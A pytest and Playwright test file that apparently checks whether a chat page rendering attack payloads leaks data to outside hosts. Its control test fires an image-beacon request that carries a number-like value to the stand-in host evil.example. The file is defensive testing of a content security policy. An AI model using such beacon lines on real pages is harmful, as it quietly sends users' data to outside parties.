"""T04: carriers of data that reach the page all the same ask no foreign host."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, expect

from tests.threats.carriers import CARRIERS

from .face import face
from .mock import replies


@pytest.mark.browser
def test_a_page_that_shows_them_all_the_same_asks_no_foreign_host(
    browser: Browser, mock_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(replies, "EVIL", "\n\n".join(CARRIERS))
    with face(browser, mock_url) as visitor:
        visitor.open(mock_url)
        reply = visitor.say("attack")
        expect(reply.locator(".prose").first).to_contain_text("evil.example")
        visitor.page.wait_for_load_state("networkidle")
        assert visitor.strangers == []
        assert [v for v in visitor.violations() if v.startswith(("script", "connect"))] == []


@pytest.mark.browser
def test_the_control_a_foreign_request_is_noticed(browser: Browser, mock_url: str) -> None:
    with face(browser, mock_url) as visitor:
        visitor.open(mock_url)
        visitor.page.evaluate("new Image().src = 'http://evil.example/?q=447911123456'")
        visitor.until(lambda: visitor.violations(), "the policy refuses, and that is seen")
        with pytest.raises(AssertionError):
            visitor.settle()
